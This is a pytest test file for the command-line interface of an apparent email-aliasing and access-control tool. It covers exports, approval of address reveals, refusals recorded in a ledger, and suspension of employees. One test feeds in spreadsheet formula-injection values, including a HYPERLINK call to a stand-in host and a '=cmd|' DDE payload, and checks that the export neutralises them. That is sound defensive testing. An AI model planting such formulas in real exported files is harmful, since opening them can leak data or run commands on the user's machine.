"""Employee access from the CLI: contact and export as an employee, reveals from request to
view, suspension, the access log; refusals exit non-zero and are in the ledger."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from cli_testkit import Cli, add_employee, assert_no_address, customer_id, ledger_entries
from sqlalchemy.orm import Session, sessionmaker

from mailveil.auth.keys import Role, issue_key
from mailveil.config import Settings
from mailveil.contacts.principals import update_principal
from mailveil.contacts.relationships import create_case

ADDRESSES = ["quinn.buyer@example.com", "rosa.buyer@example.com"]
WHY = "customer cannot log in and asks to confirm the address on file"


@pytest.fixture
def desk(cli: Cli, cli_settings: Settings, db: sessionmaker[Session]) -> dict[str, int]:
    Path("c.csv").write_text(
        "external_id,email,country\n"
        + "".join(f"c-{i},{a},DE\n" for i, a in enumerate(ADDRESSES, start=1))
    )
    cli.ok("customers", "import", "c.csv")
    agent = add_employee(db, "e-agent", "Agent A")
    peer = add_employee(db, "e-peer", "Peer P")
    with db() as s:
        update_principal(s, agent, attributes={"team": "login help"})
        for n, ext in enumerate(("c-1", "c-2"), start=1):
            create_case(
                s, external_id=f"case-{n}", customer_id=customer_id(db, ext), assignee_id=agent
            )
        issue_key(s, Role.APPROVER, principal_id=peer, principal_kind="employee")
        s.commit()
    return {"agent": agent, "peer": peer}


def test_contact_and_export_as_an_employee(cli: Cli, desk: dict[str, int]) -> None:
    contact = cli.ok("customers", "contact", "c-1", "--as", "employee:e-agent", "--ref", "case-1")
    assert "alias " in contact.stdout
    export = cli.ok("customers", "export", "--as", "employee:e-agent")
    rows = list(csv.DictReader(io.StringIO(export.stdout)))
    assert [r["external_id"] for r in rows] == ["c-1", "c-2"]
    assert rows[0]["alias"] in contact.stdout
    denied = cli("customers", "contact", "c-1", "--as", "employee:e-peer")
    assert denied.code == 1 and "no open support case" in denied.stderr
    for run in (contact, export, denied):
        assert_no_address(run, ADDRESSES)


def test_export_neutralises_formula_cells(
    cli: Cli, cli_settings: Settings, db: sessionmaker[Session]
) -> None:
    # Issue 12 §8: the CLI export wrote external ids such as =HYPERLINK(...) as they were, and
    # a spreadsheet opening the file would run them.
    hostile = ['=HYPERLINK("http://evil.example/?x")', "-2+3", "+1", "=cmd|x!A0"]
    Path("h.csv").write_text(
        "external_id,email,country\n"
        + "".join(
            f'"{ext.replace(chr(34), chr(34) * 2)}",hostile{i}@example.com,DE\n'
            for i, ext in enumerate(hostile)
        )
    )
    cli.ok("customers", "import", "h.csv")
    agent = add_employee(db, "e-sheet", "Sheet S")
    with db() as s:
        for n, ext in enumerate(hostile):
            create_case(
                s, external_id=f"case-h{n}", customer_id=customer_id(db, ext), assignee_id=agent
            )
        s.commit()
    export = cli.ok("customers", "export", "--as", "employee:e-sheet")
    rows = list(csv.DictReader(io.StringIO(export.stdout)))
    assert sorted(r["external_id"] for r in rows) == sorted("'" + ext for ext in hostile)


def test_reveal_from_request_to_view(
    cli: Cli, desk: dict[str, int], cli_settings: Settings
) -> None:
    cli.ok(
        "reveals",
        "request",
        "--as",
        "employee:e-agent",
        "--customer",
        "c-1",
        "--case",
        "case-1",
        "--justification",
        WHY,
    )
    listed = cli.ok("reveals", "list", "--status", "pending")
    assert "case-1" in listed.stdout and "0/1" in listed.stdout
    # The requester holds no approver key, and would be approving its own request anyway.
    own = cli(
        "reveals",
        "approve",
        "1",
        "--as",
        "employee:e-agent",
        "--customer",
        "c-1",
        "--case",
        "case-1",
    )
    assert own.code == 1 and "not-an-approver" in own.stderr and "ledger entry" in own.stderr
    mismatch = cli(
        "reveals",
        "approve",
        "1",
        "--as",
        "employee:e-peer",
        "--customer",
        "c-2",
        "--case",
        "case-1",
    )
    assert mismatch.code == 1 and "approval-mismatch" in mismatch.stderr
    cli.ok(
        "reveals",
        "approve",
        "1",
        "--as",
        "employee:e-peer",
        "--customer",
        "c-1",
        "--case",
        "case-1",
    )
    view = cli.ok("reveals", "view", "1", "--as", "employee:e-agent")
    assert view.stdout.strip() == ADDRESSES[0]
    again = cli("reveals", "view", "1", "--as", "employee:e-agent")
    assert again.code == 1 and "reveal-used-up" in again.stderr
    assert ADDRESSES[0] not in again.output
    log = cli.ok("customers", "access-log", "c-1")
    assert "real_address" in log.stdout and "login help" in log.stdout
    kinds = [e.kind for e in ledger_entries(cli_settings)]
    assert kinds.count("access_refused") == 3
    assert {"reveal_requested", "reveal_approved", "reveal_granted", "reveal_viewed"} <= set(kinds)
    assert cli.ok("reveals", "expire").stdout.strip().endswith("expired")


def test_suspend_and_reinstate(cli: Cli, desk: dict[str, int], cli_settings: Settings) -> None:
    cli.ok("customers", "export", "--as", "employee:e-agent")
    done = cli.ok("principals", "suspend", "employee:e-agent", "--reason", "leak investigation")
    assert "2 alias(es)" in done.stdout
    refused = cli("customers", "export", "--as", "employee:e-agent")
    assert refused.code == 1 and "principal-suspended" in refused.stderr
    assert cli("principals", "suspend", "employee:e-agent", "--reason", "again").code == 1
    cli.ok("principals", "reinstate", "employee:e-agent", "--reason", "cleared")
    last = ledger_entries(cli_settings)[-1]
    assert last.kind == "principal_reinstated" and json.loads(last.detail)["reason"] == "cleared"
    assert cli("principals", "suspend", "nobody", "--reason", "x").code == 2
